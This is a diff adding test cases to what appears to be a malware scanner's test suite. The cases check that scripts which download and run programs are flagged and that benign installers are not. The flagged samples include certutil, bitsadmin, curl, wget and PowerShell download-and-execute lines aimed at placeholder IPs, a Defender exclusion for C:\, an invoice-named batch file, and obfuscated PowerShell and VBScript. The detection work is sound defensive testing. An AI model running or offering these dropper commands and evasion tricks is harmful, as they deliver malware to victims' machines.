@@ -334,6 +334,119 @@ suite('harmless', () => {
   for (const [name, bytes] of cases) test(name, () => harmless(bytes))
 })
 
+suite('a shell script that downloads and runs a program', () => {
+  const alone = (name: string, text: string): Uint8Array => writeZip([{ name, data: Buffer.from(text) }])
+  const attacks: [string, Uint8Array][] = [
+    [
+      'with certutil',
+      packed('a.bat', 'certutil -urlcache -split -f http://203.0.113.4/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe\r\n'),
+    ],
+    [
+      'with variables and carets',
+      packed(
+        'a.cmd',
+        'set h=http://198.51.100.7\r\nset f=%TEMP%\\s.exe\r\ncert^util -url^cache -f %h%/x.png %f%\r\nstart "" /b %f%\r\n',
+      ),
+    ],
+    [
+      'with bitsadmin',
+      packed('a.cmd', 'bitsadmin /transfer j http://203.0.113.4/a.exe %temp%\\a.exe && %temp%\\a.exe\r\n'),
+    ],
+    ['with curl, in the same folder', packed('a.bat', 'curl -s http://203.0.113.4/a.exe -o a.exe\r\na.exe\r\n')],
+    [
+      'with variables of PowerShell',
+      packed(
+        'a.ps1',
+        '$u = "http://203.0.113.4/a"\n$o = "$env:TEMP\\a.exe"\n(New-Object Net.WebClient).DownloadFile($u, $o)\n& $o\n',
+      ),
+    ],
+    [
+      'with Start-Process',
+      packed(
+        'a.ps1',
+        'Invoke-WebRequest http://203.0.113.4/a.exe -OutFile "$env:TEMP\\a.exe"\nStart-Process "$env:TEMP\\a.exe"\n',
+      ),
+    ],
+    ['through a pipe', packed('a.sh', '#!/bin/sh\ncurl -s http://203.0.113.4/a.sh | sh\n')],
+    ['for Linux', packed('a', '#!/bin/bash\nwget -q http://203.0.113.9/x -O /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x &\n')],
+    [
+      'from a service for anybody',
+      packed('a.bat', 'curl -o u.exe https://cdn.discordapp.com/attachments/1/2/u.exe\r\nu.exe\r\n'),
+    ],
+    ['as a picture', packed('a.bat', 'curl -o u.exe https://www.example.com/logo.png\r\nstart u.exe\r\n')],
+    [
+      'behind the protection',
+      packed(
+        'a.bat',
+        'powershell Add-MpPreference -ExclusionPath C:\\\r\ncurl -o u.exe https://www.example.com/u.exe\r\nu.exe\r\n',
+      ),
+    ],
+    [
+      'under the name of a paper',
+      alone('Invoice_4711.bat', 'curl -o u.exe https://www.example.com/u.exe\r\nu.exe\r\n'),
+    ],
+  ]
+  for (const [name, bytes] of attacks) test(name, () => has(bytes, 'Script.Dropper'))
+
+  const installers: [string, string][] = [
+    [
+      'setup.bat',
+      'curl -L -o %TEMP%\\tools.exe https://www.example.com/tools.exe\r\nstart /wait %TEMP%\\tools.exe --quiet\r\n',
+    ],
+    ['setup.sh', '#!/bin/sh\nset -e\ncurl -fsSL https://deb.example.com/setup_20.x | sudo bash -\n'],
+    [
+      'agent.ps1',
+      'Invoke-WebRequest http://10.1.2.3/agent.msi -OutFile C:\\a\\agent.msi\nStart-Process msiexec -ArgumentList "/i C:\\a\\agent.msi /qn"\n',
+    ],
+    ['status.bat', 'curl -s http://203.0.113.4/status.txt -o status.txt\r\ntype status.txt\r\n'],
+    ['invoice-tool.bat', 'curl -o invoices.zip https://www.example.com/invoices.zip\r\ntar -xf invoices.zip\r\n'],
+  ]
+  for (const [name, text] of installers) test(`${name} is harmless`, () => harmless(alone(name, text)))
+})
+
+suite('a text that is a script', () => {
+  const attacks: [string, string, string][] = [
+    [
+      'in batch',
+      'Script.Program',
+      '@echo off\r\nset a=power\r\nset b=shell\r\n%a%%b% -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A\r\n',
+    ],
+    [
+      'in formatted PowerShell',
+      'Script.Dropper',
+      '&("{1}{0}" -f "X","IE") (&("{0}{1}" -f "New-Ob","ject") ("{0}{1}" -f "Net.Web","Client")).("Downlo"+"adString").Invoke("http://203.0.113.4/a")\n',
+    ],
+    [
+      'in PowerShell from letters',
+      'Script.Program',
+      '$a="DownloadStr"+"ing"; $w=[Activator]::CreateInstance($t); .($env:ComSpec[4,15,25]-join"") $w.$a("http://203.0.113.4/x")\n',
+    ],
+    [
+      'in VBScript from a changed text',
+      'Script.Program',
+      'Execute(Replace("CrXeateObjXect(""WScXript.Shell"").RuXn ""calc""","X",""))\r\n',
+    ],
+    [
+      'in VBScript on one line',
+      'Script.Program',
+      'a="WScript":b=".Shell":Execute "Set s=CreateObject(a&b)":s.Run "powershell -ep bypass -c calc"\r\n',
+    ],
+    [
+      'that downloads',
+      'Script.Dropper',
+      'bitsadmin /transfer j http://203.0.113.4/a.exe %temp%\\a.exe && %temp%\\a.exe\r\n',
+    ],
+  ]
+  for (const [name, id, text] of attacks) test(name, () => has(Buffer.from(text), id))
+  const notes = [
+    'curl -LsSf https://www.example.com/install.sh | sh\n',
+    '@echo off\r\nset a=b\r\nrobocopy %a% D:\\backup /MIR\r\n',
+    "$t = '{0} of {1}' -f 'one', 'two'\nWrite-Output ($t[1,2] -join '')\n",
+    'The script begins with @echo off and then runs certutil -urlcache -f http://203.0.113.4/a.exe a.exe & a.exe in a window.\n',
+  ]
+  for (const text of notes) test(`harmless: ${JSON.stringify(text)}`, () => harmless(Buffer.from(text)))
+})
+
 suite('code that a document shows', () => {
   const JSCRIPT = 'var s = new ActiveXObject("WScript.Shell"); s.Run("calc");'
   const TAGS = '<script language="VBScript">\nSet s = CreateObject("WScript.Shell")\ns.Run "calc"\n</script>\n'
